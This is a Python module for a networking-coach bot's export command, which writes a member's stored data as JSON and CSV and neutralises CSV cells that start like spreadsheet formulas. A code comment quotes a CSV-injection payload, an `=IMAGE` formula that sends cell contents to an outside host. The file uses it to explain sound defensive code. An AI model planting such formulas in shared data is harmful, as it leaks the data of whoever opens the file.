"""A member's own data, out: JSON and CSV of everything the coach stores about them."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from sqlalchemy import select

from bot import commands
from bot.handlers.context import Context
from bot.linking import account_words
from bot.models import Conference, Contact, Member
from bot.replies import Attachment, Reply
from bot.store.repository import accounts_of, contacts_of, pending_nudges_by_contact

CSV_FIELDS = ("name", "stage", "where_met", "met_at", "notes", "interests", "offer", "purpose", "tags",
              "platform_user_id", "next_nudge", "next_nudge_at", "meetings")
# A spreadsheet reads a cell starting with one of these as a formula (`=IMAGE("//host/?"&E2)` as a Discord
# display name): OWASP's CSV injection advice is to start such a cell with a single quote, which makes it
# text. Also when spaces come first (a spreadsheet may trim them), and for the full-width forms.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def export(cmd: commands.Export, ctx: Context) -> Reply:
    contacts = contacts_of(ctx.session, ctx.member)
    pending = pending_nudges_by_contact(ctx.session, ctx.member)
    accounts = accounts_of(ctx.session, ctx.member)
    document: dict[str, Any] = {
        "member": _member_dict(ctx.member),
        # every account that shares this contact book (`/coach link`), the member's own first
        "accounts": [{"platform": a.platform, "workspace_id": a.workspace_id, "user_id": a.user_id,
                      "display_name": a.display_name} for a in accounts],
        "exported_at": ctx.now.isoformat(),
        "contacts": [_contact_dict(c, pending.get(c.id)) for c in contacts],
        "events": [{"name": e.name, "from": e.starts_at.isoformat(), "until": e.ends_at.isoformat(),
                    "ended_at": e.ended_at.isoformat() if e.ended_at else None}
                   for e in ctx.session.scalars(select(Conference).where(Conference.member_id == ctx.member.id)
                                                .order_by(Conference.id))],
    }
    as_json = json.dumps(document, indent=2, ensure_ascii=False)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=CSV_FIELDS, extrasaction="ignore")
    writer.writeheader()
    for row in document["contacts"]:
        meetings = "; ".join(" ".join(filter(None, (m["at"], m["where"]))) for m in row["meetings"])
        cells = {**row, "interests": "; ".join(row["interests"]), "tags": " ".join(row["tags"]), "meetings": meetings}
        writer.writerow({field: safe_cell(cells[field]) for field in CSV_FIELDS})
    every = (f" It covers all your linked accounts: {', '.join(account_words(a) for a in accounts)}."
             if len(accounts) > 1 else "")
    return Reply(
        f"Here is everything I store about you: {len(contacts)} contact{'s' if len(contacts) != 1 else ''}, "
        f"as JSON and CSV.{every}",
        attachments=(
            Attachment("coach-export.json", as_json, "application/json"),
            Attachment("coach-contacts.csv", buffer.getvalue(), "text/csv"),
        ),
    )


def safe_cell(value: Any) -> Any:
    """A CSV cell no spreadsheet runs as a formula: text that starts like one gets a leading quote."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _member_dict(member: Member) -> dict[str, Any]:
    return {
        "platform": member.platform,
        "workspace_id": member.workspace_id,
        "user_id": member.user_id,
        "timezone": member.timezone,
        "working_hours": f"{member.work_start_hour:02d}:00-{member.work_end_hour:02d}:00",
        "working_days": member.work_days,
        "checkin_days": member.checkin_days,
        "monday_digest": "on" if member.digest_on else "off",
        "paused": member.paused,
    }


def _contact_dict(contact: Contact, nudge: Any) -> dict[str, Any]:
    return {
        "name": contact.name,
        "stage": contact.stage,
        "where_met": contact.where_met,
        "met_at": contact.met_at.isoformat(),
        "notes": contact.notes,
        "interests": list(contact.interests or []),
        "offer": contact.offer,
        "purpose": contact.purpose,  # the member's answer to "What's this message for?"
        "tags": list(contact.tags or []),
        "platform_user_id": contact.platform_user_id,
        "next_nudge": nudge.kind if nudge else None,
        "next_nudge_at": nudge.due_at.isoformat() if nudge else None,
        # every meeting, oldest first (where_met and met_at are the latest one's)
        "meetings": [{"at": e.at.isoformat(), "where": e.detail} for e in contact.events if e.kind == "met"],
        "events": [
            {"kind": e.kind, "at": e.at.isoformat(), "detail": e.detail,
             "until": e.until.isoformat() if e.until else None}
            for e in contact.events
        ],
    }
